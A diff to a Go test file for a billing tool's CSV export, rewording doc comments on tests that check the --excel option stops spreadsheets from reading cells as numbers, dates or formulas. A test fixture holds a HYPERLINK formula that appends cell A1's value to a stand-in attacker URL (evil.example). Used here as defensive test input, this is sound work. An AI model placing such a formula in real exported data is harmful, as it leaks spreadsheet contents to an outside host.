@@ -21,7 +21,7 @@ import (
 	"github.com/tollbook/tollbook/pipeline/read/question"
 )
 
-// hostileWorkspace is a month whose ids and names a spreadsheet would take for numbers, dates and formulas.
+// hostileWorkspace is a month whose ids and names a spreadsheet would interpret as numbers, dates and formulas.
 func hostileWorkspace(t *testing.T) string {
 	t.Helper()
 	const link = `"=HYPERLINK(""http://evil.example/?""&A1,""open"")"`
@@ -53,7 +53,7 @@ func hostileWorkspace(t *testing.T) string {
 	return dir
 }
 
-// csvLines are command lines of every command that writes CSV.
+// csvLines returns command lines of every command that writes CSV.
 func csvLines() map[string][][]string {
 	tables := [][]string{strings.Fields("export --cycle 2026-09 --format focus --issuer vendor"),
 		strings.Fields("export --cycle 2026-09 --split")}
@@ -74,8 +74,8 @@ func csvLines() map[string][][]string {
 	}
 }
 
-// Every command of the tree whose --format has csv has --excel too, and is tested below. The CSV of generate is a
-// feed, which tollbook reads.
+// TestExcelFlags checks that every command of the tree whose --format has csv has --excel too, and is tested below. The
+// CSV of generate is a feed, which tollbook reads.
 func TestExcelFlags(t *testing.T) {
 	t.Parallel()
 	known := csvLines()
@@ -109,8 +109,8 @@ var (
 	literal = regexp.MustCompile(`^="((?:[^"]|"")*)"$`)
 )
 
-// seen is what a spreadsheet makes of a cell of CSV: the text, and whether it is a number. Anything else that it
-// might guess fails the test.
+// seen returns how a spreadsheet interprets a cell of CSV: the text, and whether it is a number. Any other
+// interpretation fails the test.
 func seen(t *testing.T, where, cell string) (text string, number bool) {
 	t.Helper()
 	if m := literal.FindStringSubmatch(cell); m != nil {
@@ -140,8 +140,8 @@ func seen(t *testing.T, where, cell string) (text string, number bool) {
 	return cell, false
 }
 
-// With --excel no cell of any command's CSV is anything but what the plain form says: texts are texts, numbers numbers.
-// Invariant: EXPORT-5.
+// TestExcelCSV checks that with --excel every cell of every command's CSV has the value of the plain form: texts are
+// texts, numbers numbers. Invariant: EXPORT-5.
 func TestExcelCSV(t *testing.T) {
 	t.Parallel()
 	dir := hostileWorkspace(t)
@@ -163,7 +163,7 @@ func TestExcelCSV(t *testing.T) {
 	}
 }
 
-// parts are the CSV files of an output: of a tar.gz all.
+// parts returns the CSV files of an output: of a tar.gz all.
 func parts(t *testing.T, out string) []string {
 	t.Helper()
 	if !strings.HasPrefix(out, "\x1f\x8b") {
@@ -188,7 +188,7 @@ func parts(t *testing.T, out string) []string {
 	}
 }
 
-// sameTable compares what a spreadsheet sees of the Excel form with the plain form, cell by cell.
+// sameTable compares what a spreadsheet shows of the Excel form with the plain form, cell by cell.
 func sameTable(t *testing.T, where, plain, excel string) {
 	t.Helper()
 	want, err := csv.NewReader(strings.NewReader(plain)).ReadAll()
@@ -223,7 +223,7 @@ func sameTable(t *testing.T, where, plain, excel string) {
 	}
 }
 
-// The cells that matter most, by hand.
+// TestExcelCells checks the most important cells, with values written by hand.
 func TestExcelCells(t *testing.T) {
 	t.Parallel()
 	dir := hostileWorkspace(t)
@@ -241,7 +241,7 @@ func TestExcelCells(t *testing.T) {
 	}
 }
 
-// In every XLSX ids are text cells, and no cell but a total is a formula.
+// TestXLSXCells checks that in every XLSX ids are text cells, and that only totals are formulas.
 func TestXLSXCells(t *testing.T) {
 	t.Parallel()
 	dir := hostileWorkspace(t)
